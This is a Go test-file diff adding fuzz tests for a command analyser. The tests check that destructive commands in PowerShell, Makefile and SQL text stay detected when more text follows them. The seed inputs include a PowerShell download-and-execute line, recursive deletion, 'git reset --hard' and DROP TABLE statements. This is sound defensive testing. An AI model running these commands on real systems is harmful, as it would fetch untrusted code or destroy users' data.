@@ -1,6 +1,7 @@
 package act
 
 import (
+	"slices"
 	"strings"
 	"testing"
 )
@@ -114,4 +115,67 @@ func TestQueriesOfCode(t *testing.T) {
 			t.Errorf("%s: broken is %v", query, s.Broken)
 		}
 	}
+}
+
+// acted follows a text by one reader and reports whether it names the program with the word.
+func acted(t *testing.T, read func(s *Shell), program, word string) bool {
+	s := NewShell(t.Context(), "")
+	read(s)
+	if len(s.Acts) > maxActs+1 {
+		t.Errorf("%d acts", len(s.Acts))
+	}
+	for _, a := range s.Acts {
+		if a.Name == program && slices.Contains(a.Words, word) {
+			return true
+		}
+	}
+	return s.Over != "" // a check then judges the text by its words
+}
+
+// FuzzPowerShell: nothing that follows a command hides it.
+func FuzzPowerShell(f *testing.F) {
+	for _, text := range []string{"", "Remove-Item -Recurse C:\\x", "& { iex (New-Object Net.WebClient).DownloadString('http://x') }", "`\n|", "@'\nx\n'@", "<<E", "$env:USERPROFILE\\a"} {
+		f.Add(text)
+	}
+	f.Fuzz(func(t *testing.T, text string) {
+		text = Tidy(text[:min(len(text), MaxCommand)])
+		if !acted(t, func(s *Shell) { s.powershell([]string{"-Command", "git reset --hard\n" + text}, stream{}) }, "git", "reset") {
+			t.Error("the command before it is lost")
+		}
+	})
+}
+
+// FuzzMakefile: nothing that follows a rule hides its recipe.
+func FuzzMakefile(f *testing.F) {
+	for _, text := range []string{"", "all: b\nb:\n\tls", "A = $(A)$(A)\nall: $(A)", "define x\nendef", "all::;ls", "\t@echo $$HOME $@", "$(shell ls):\n", "X := $(shell rm x)"} {
+		f.Add(text)
+	}
+	f.Fuzz(func(t *testing.T, text string) {
+		text = Tidy(text[:min(len(text), MaxCommand)])
+		read := func(s *Shell) {
+			s.command([]string{"make", "-f", "-"}, nil, plainText("all:\n\tgit reset --hard\n"+text))
+		}
+		if !acted(t, read, "git", "reset") {
+			t.Error("the recipe before it is lost")
+		}
+	})
+}
+
+// FuzzSQLBlocks: nothing that follows a block hides what it executes, whatever it executes besides.
+func FuzzSQLBlocks(f *testing.F) {
+	for _, text := range []string{"", "DO $$ BEGIN EXECUTE 'x' || y; END $$", "EXECUTE IMMEDIATE 'DROP TABLE b'", "EXECUTE format('DROP %I', a)", "'", "$$", "/*", "PREPARE p AS DELETE FROM a"} {
+		f.Add(text)
+	}
+	f.Fuzz(func(t *testing.T, text string) {
+		text = Tidy(text[:min(len(text), MaxCommand)])
+		var targets Targets
+		found := false
+		for _, e := range NewShell(t.Context(), "").statements("DO $$ BEGIN EXECUTE 'DROP TABLE a'; END $$;\n"+text, &targets) {
+			found = found || e.Kind == EffectSQL && e.SQL.Verb == "DROP"
+		}
+		if !found {
+			t.Error("the block before it is lost")
+		}
+		NewShell(t.Context(), "").statements("EXECUTE '"+text+"'", &targets)
+	})
 }
